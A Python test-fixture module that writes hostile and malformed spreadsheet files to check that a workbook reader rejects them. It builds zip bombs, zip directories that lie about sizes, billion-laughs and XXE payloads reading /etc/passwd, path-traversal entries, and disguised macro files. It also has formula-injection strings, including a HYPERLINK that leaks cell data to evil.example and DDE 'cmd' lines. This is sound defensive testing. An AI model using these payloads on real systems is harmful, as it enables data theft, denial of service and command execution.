"""Writers of hostile and awkward returned files, built byte by byte here (nothing downloaded).

Each public function writes one file into `folder` and returns its path. The bytes are real: zip
archives, deflate streams and OLE2 containers are assembled the way the attack needs them.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
)
LONG_TEXT = ("0123456789abcdef" * 2048)[:32_767]  # Excel's cell limit
CONTROL_TEXT = "tab\there\nnew line\x07bell\x1bescape\x00nul"


# ---------------------------------------------------------------- building blocks


def sheet_xml(rows: str, dimension: str = "", before: str = "", after: str = "") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN}" '
        f'xmlns:r="{REL}">{dim}{before}<sheetData>{rows}</sheetData>{after}</worksheet>'
    ).encode()


def package(
    sheets: list[tuple[str, bytes]],
    shared_strings: bytes | None = None,
    extra: dict[str, bytes] | None = None,
    main_type: str = SHEET_CT,
) -> dict[str, bytes]:
    """The parts of a minimal valid workbook: name -> bytes, ready for `write_zip`."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(len(sheets))
    )
    # The Default for ".bin" names the VBA type with no VBA part behind it, as some tools write it:
    # that alone must not make a workbook macro-enabled.
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Default Extension="bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>{overrides}</Types>'
        ).encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" '
            f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
            + "".join(
                f'<sheet name="{name}" sheetId="{i + 1}" r:id="rId{i + 1}"/>'
                for i, (name, _) in enumerate(sheets)
            )
            + "</sheets></workbook>"
        ).encode(),
    }
    rels = "".join(
        f'<Relationship Id="rId{i + 1}" Type="{REL}/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
        for i in range(len(sheets))
    )
    if shared_strings is not None:
        rels += f'<Relationship Id="rIdS" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
        parts["xl/sharedStrings.xml"] = shared_strings
    parts["xl/_rels/workbook.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{rels}</Relationships>'
    ).encode()
    for i, (_, xml) in enumerate(sheets):
        parts[f"xl/worksheets/sheet{i + 1}.xml"] = xml
    parts.update(extra or {})
    return parts


def write_zip(path: Path, parts: dict[str, bytes], level: int = 6) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A deflated zip whose directory says whatever we like: (name, deflated, declared size, crc, method)."""
    body, central, offset = [], [], 0
    for name, data, size, crc, method in members:
        raw = name.encode()
        local = struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(data), size, len(raw), 0
        )
        central.append(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw
        )
        body += [local, raw, data]
        offset += len(local) + len(raw) + len(data)
    directory = b"".join(central)
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), offset, 0
    )
    return b"".join(body) + directory + end


def deflate(data: bytes, level: int = 9) -> bytes:
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding the given streams.

    Streams are padded to 4096 bytes so they live in regular sectors and no mini stream is needed.
    """
    sector = 512
    data_sectors: list[bytes] = []
    entries = [_dir_entry("Root Entry", 5, -2, 0, child=1 if streams else -1)]
    for i, (name, content) in enumerate(streams.items()):
        content = content.ljust(max(4096, -(-len(content) // sector) * sector), b"\0")
        first = 2 + sum(len(s) // sector for s in data_sectors)
        right = i + 2 if i + 1 < len(streams) else -1
        entries.append(_dir_entry(name, 2, first, len(content), right=right))
        data_sectors.append(content)
    directory = b"".join(entries).ljust(sector * -(-len(entries) * 128 // sector), b"\0")
    n_dir = len(directory) // sector
    fat = [0xFFFFFFFD]  # sector 0 holds the FAT itself
    fat += [i + 2 if i + 1 < n_dir else 0xFFFFFFFE for i in range(1, n_dir + 1)]
    next_sector = 1 + n_dir
    for content in data_sectors:
        count = len(content) // sector
        fat += [next_sector + k + 1 if k + 1 < count else 0xFFFFFFFE for k in range(count)]
        next_sector += count
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(sector, b"\xff")
    difat = struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIII", 0, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE)
        + struct.pack("<I", 0)
        + difat
    )
    assert len(header) == 512
    return header + fat_sector + directory + b"".join(data_sectors)


def _dir_entry(name: str, kind: int, start: int, size: int, child: int = -1, right: int = -1) -> bytes:
    raw = (name + "\0").encode("utf-16-le")
    return (
        raw.ljust(64, b"\0")
        + struct.pack("<HBBiii", len(raw), kind, 1, -1, right, child)
        + b"\0" * 16
        + b"\0" * 4
        + b"\0" * 16
        + struct.pack("<iI", start, size)
        + b"\0" * 4
    )


def _cells(values: dict[str, str | float]) -> str:
    out = []
    for ref, value in values.items():
        if isinstance(value, str):
            out.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>')
        else:
            out.append(f'<c r="{ref}"><v>{value}</v></c>')
    return "".join(out)


# ---------------------------------------------------------------- hostile files


def zip_bomb(folder: Path) -> Path:
    """A valid-looking workbook whose one sheet inflates from ~30 KB to 24 MiB of empty styled cells."""
    row = "".join(f'<c r="{col}1" s="0"/>' for col in "ABCDEFGH")
    chunk = (f'<row r="1">{row}</row>' * 1000).encode()
    body = chunk * (24 * 2**20 // len(chunk))
    xml = sheet_xml("").replace(b"<sheetData></sheetData>", b"<sheetData>" + body + b"</sheetData>")
    return write_zip(folder / "zip_bomb.xlsx", package([("Data", xml)]), level=9)


def lying_sizes(folder: Path) -> Path:
    """The directory declares 1 KB for a sheet that really inflates to 8 MiB (CRC of the first KB)."""
    real = sheet_xml('<row r="1">' + '<c r="A1"><v>1</v></c>' * 400_000 + "</row>")
    parts = package([("Data", b"")])
    members = [
        (n, deflate(d), len(d), zlib.crc32(d), 8) for n, d in parts.items() if not n.endswith("sheet1.xml")
    ]
    members.append(("xl/worksheets/sheet1.xml", deflate(real), 1024, zlib.crc32(real[:1024]), 8))
    path = folder / "lying_sizes.xlsx"
    path.write_bytes(raw_zip(members))
    return path


def too_many_entries(folder: Path) -> Path:
    parts = package([("Data", sheet_xml(_cells({"A1": 1})))])
    parts.update({f"xl/media/pad{i}.xml": b"<a/>" for i in range(1500)})
    return write_zip(folder / "too_many_entries.xlsx", parts, level=1)


def billion_laughs(folder: Path) -> Path:
    lol = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ]
    xml = (
        '<?xml version="1.0"?>\n<!DOCTYPE worksheet ['
        + "".join(lol)
        + f']><worksheet xmlns="{MAIN}"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    ).encode()
    return write_zip(folder / "billion_laughs.xlsx", package([("Data", xml)]))


def external_entity(folder: Path) -> Path:
    sst = (
        '<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    ).encode()
    sheet = sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
    return write_zip(folder / "external_entity.xlsx", package([("Data", sheet)], shared_strings=sst))


def utf16_doctype(folder: Path) -> Path:
    """The DTD hides in a UTF-16 part, where a byte search for '<!DOCTYPE' finds nothing."""
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet [<!ENTITY a "aaaa">]>'
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is>'
        "</c></row></sheetData></worksheet>"
    ).encode("utf-16")
    return write_zip(folder / "utf16_doctype.xlsx", package([("Data", xml)]))


def truncated(folder: Path) -> Path:
    whole = folder / "_whole.xlsx"
    normal_workbook(whole)
    data = whole.read_bytes()
    whole.unlink()
    path = folder / "truncated.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def empty(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


def text_file(folder: Path) -> Path:
    path = folder / "text.xlsx"
    path.write_text("Dear team,\nplease find my forecast below. Revenue will be fine.\nRegards\n")
    return path


def csv_file(folder: Path) -> Path:
    path = folder / "csv.xlsx"
    path.write_text("customer;product;jan;feb\nACME;Widgets;100;200\nInitech;Gadgets;50;75\n")
    return path


def html_file(folder: Path) -> Path:
    path = folder / "html.xlsx"
    path.write_text("<html><body><table><tr><td>ACME</td><td>100</td></tr></table></body></html>")
    return path


def xls_renamed(folder: Path) -> Path:
    """An Excel 97-2003 file: OLE2 container with a 'Workbook' stream starting with a BIFF8 BOF."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0, 0, 0, 0)
    path = folder / "xls_renamed.xlsx"
    path.write_bytes(cfb({"Workbook": bof}))
    return path


def encrypted_ooxml(folder: Path) -> Path:
    """What Excel writes for a password-protected workbook: an OLE2 file, not a zip."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"
    path = folder / "encrypted.xlsx"
    path.write_bytes(
        cfb({"EncryptionInfo": info, "EncryptedPackage": struct.pack("<Q", 4096) + b"\x5a" * 4096})
    )
    return path


def macro_enabled(folder: Path) -> Path:
    vba = cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n'})
    parts = package(
        [("Data", sheet_xml(_cells({"A1": 1})))], extra={"xl/vbaProject.bin": vba}, main_type=MACRO_CT
    )
    return write_zip(folder / "macro.xlsm", parts)


def macro_renamed(folder: Path) -> Path:
    """An .xlsm renamed .xlsx: only the bytes can tell."""
    sub = folder / "_renamed"
    sub.mkdir(exist_ok=True)
    path = macro_enabled(sub).rename(folder / "macro_renamed.xlsx")
    sub.rmdir()
    return path


def traversal_names(folder: Path) -> Path:
    parts = package([("Data", sheet_xml(_cells({"A1": 1})))], extra={"../evil.xml": b"<evil/>"})
    return write_zip(folder / "traversal.xlsx", parts)


def absolute_name(folder: Path) -> Path:
    parts = package([("Data", sheet_xml(_cells({"A1": 1})))], extra={"/abs/evil.xml": b"<evil/>"})
    return write_zip(folder / "absolute.xlsx", parts)


def backslash_traversal(folder: Path) -> Path:
    parts = package([("Data", sheet_xml(_cells({"A1": 1})))], extra={"..\\..\\evil.xml": b"<evil/>"})
    return write_zip(folder / "backslash.xlsx", parts)


def huge_dimension(folder: Path) -> Path:
    """Declares A1:XFD1048576 but holds three cells: not hostile, must read fast."""
    rows = (
        '<row r="1">' + _cells({"A1": "Name", "B1": 2.5}) + '</row><row r="3">' + _cells({"C3": 7}) + "</row>"
    )
    return write_zip(folder / "huge_dimension.xlsx", package([("Data", sheet_xml(rows, "A1:XFD1048576"))]))


def sparse_corners(folder: Path) -> Path:
    """Values at A1 and XFD1048576: calamine would allocate the 17-billion-cell box and abort."""
    rows = (
        '<row r="1">' + _cells({"A1": 1}) + '</row><row r="1048576">' + _cells({"XFD1048576": 1}) + "</row>"
    )
    return write_zip(folder / "sparse_corners.xlsx", package([("Data", sheet_xml(rows))]))


def sparse_corners_implicit(folder: Path) -> Path:
    """The same attack without r= on the cells, hidden behind a comment and a namespace prefix."""
    far_row = '<x:row r="1048576">' + "<x:c><x:v>1</x:v></x:c>" * 3 + "</x:row>"
    rows = '<x:row r="1"><x:c r="XFA1"><x:v>1</x:v></x:c></x:row><!-- <x:row r="1"> -->' + far_row
    xml = (
        f'<?xml version="1.0"?><x:worksheet xmlns:x="{MAIN}"><x:sheetData>{rows}'
        '<x:row r="2"><x:c r="A2"><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>'
    ).encode()
    return write_zip(folder / "sparse_implicit.xlsx", package([("Data", xml)]))


def array_ranges(folder: Path) -> Path:
    """5,000 array formulas, each claiming to fill the rest of the sheet: bounded work, then refused."""
    rows = "".join(
        f'<row r="{r}"><c r="A{r}"><f t="array" ref="B{r}:XFD1048576">1</f><v>1</v></c>'
        f'<c r="B{r}"><v>2</v></c></row>'
        for r in range(1, 5001)
    )
    return write_zip(folder / "array_ranges.xlsx", package([("Data", sheet_xml(rows))]))


def many_rows(folder: Path, rows: int = 200_000, cols: int = 2) -> Path:
    """200,000 rows of two values: 400,000 cells, over the default limit of 200,000."""
    letters = "ABCDEFGHIJ"[:cols]
    body = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{r}</v></c>' for c in letters) + "</row>"
        for r in range(1, rows + 1)
    )
    return write_zip(folder / f"rows_{rows}x{cols}.xlsx", package([("Data", sheet_xml(body))]), level=1)


def awkward_strings(folder: Path) -> Path:
    """Formula-injection text, a 32,767-character string and control characters, written by xlsxwriter.

    These must read fine: flagging them is the validator's job, not the reader's.
    """
    import xlsxwriter

    path = folder / "awkward_strings.xlsx"
    book = xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False})
    sheet = book.add_worksheet("Data")
    for row, text in enumerate(INJECTIONS):
        sheet.write_string(row, 0, text)
    sheet.write_string(len(INJECTIONS), 0, LONG_TEXT)
    sheet.write_string(len(INJECTIONS) + 1, 0, CONTROL_TEXT.replace("\x00", ""))
    sheet.write_formula(0, 1, "=A1&A2", None, "cached")
    book.close()
    return path


def normal_workbook(path: Path) -> Path:
    """A small sales template as xlsxwriter writes it: protected inputs, formulas, a very hidden sheet."""
    import xlsxwriter

    book = xlsxwriter.Workbook(path)
    unlocked = book.add_format({"locked": False})
    sheet = book.add_worksheet("Revenue")
    sheet.protect()
    sheet.write_row(0, 0, ["Customer", "Jan", "Feb", "Total"])
    for row in range(1, 4):
        sheet.write_string(row, 0, f"Customer {row}")
        sheet.write_number(row, 1, row * 10, unlocked)
        sheet.write_number(row, 2, row * 20, unlocked)
        sheet.write_formula(row, 3, f"=B{row + 1}+C{row + 1}")
    meta = book.add_worksheet("_meta")
    meta.write_row(0, 0, ["version", "3"])
    meta.very_hidden()
    book.define_name("Revenue_input", "='Revenue'!$B$2:$C$4")
    book.close()
    return path


def normal(folder: Path) -> Path:
    return normal_workbook(folder / "normal.xlsx")


# name -> (writer, expected problem code or None for a clean read)
CASES = {
    "normal": (normal, None),
    "zip_bomb": (zip_bomb, "zip-unsafe"),
    "lying_sizes": (lying_sizes, "zip-unsafe"),
    "too_many_entries": (too_many_entries, "zip-unsafe"),
    "billion_laughs": (billion_laughs, "xml-unsafe"),
    "external_entity": (external_entity, "xml-unsafe"),
    "utf16_doctype": (utf16_doctype, "xml-unsafe"),
    "truncated": (truncated, "zip-corrupt"),
    "empty": (empty, "file-empty"),
    "text": (text_file, "not-a-workbook"),
    "csv": (csv_file, "not-a-workbook"),
    "html": (html_file, "not-a-workbook"),
    "xls_renamed": (xls_renamed, "unsupported-format"),
    "encrypted_ooxml": (encrypted_ooxml, "encrypted"),
    "macro_enabled": (macro_enabled, "macro-enabled"),
    "macro_renamed": (macro_renamed, "macro-enabled"),
    "traversal": (traversal_names, "zip-unsafe"),
    "absolute": (absolute_name, "zip-unsafe"),
    "backslash": (backslash_traversal, "zip-unsafe"),
    "huge_dimension": (huge_dimension, None),
    "sparse_corners": (sparse_corners, "too-many-cells"),
    "sparse_implicit": (sparse_corners_implicit, "too-many-cells"),
    "many_rows": (many_rows, "too-many-cells"),
    "array_ranges": (array_ranges, "too-many-cells"),
    "awkward_strings": (awkward_strings, None),
}


def write_all(folder: Path) -> dict[str, Path]:
    return {name: writer(folder) for name, (writer, _) in CASES.items()}
